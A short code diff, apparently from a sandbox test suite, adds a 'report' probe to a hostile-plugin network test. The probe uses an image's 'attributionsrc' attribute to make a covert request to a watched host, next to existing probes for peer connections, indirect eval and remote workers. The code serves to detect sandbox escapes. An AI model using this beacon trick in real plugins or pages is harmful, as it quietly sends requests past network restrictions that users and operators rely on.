@@ -41,6 +41,8 @@ export const network = (host: string): HostilePlugin => ({
     peers: 'return new RTCPeerConnection().connectionState',
     code: 'return (0, eval)("1 + 1")',
     worker: `return new Worker("http://${host}/w.js") && "made"`,
+    // Nothing says whether it was sent: the host that is watched knows.
+    report: `const image = new Image(); image.setAttribute("attributionsrc", "http://${host}/report"); image.src = "data:,"; return "tried"`,
   }),
 })
 
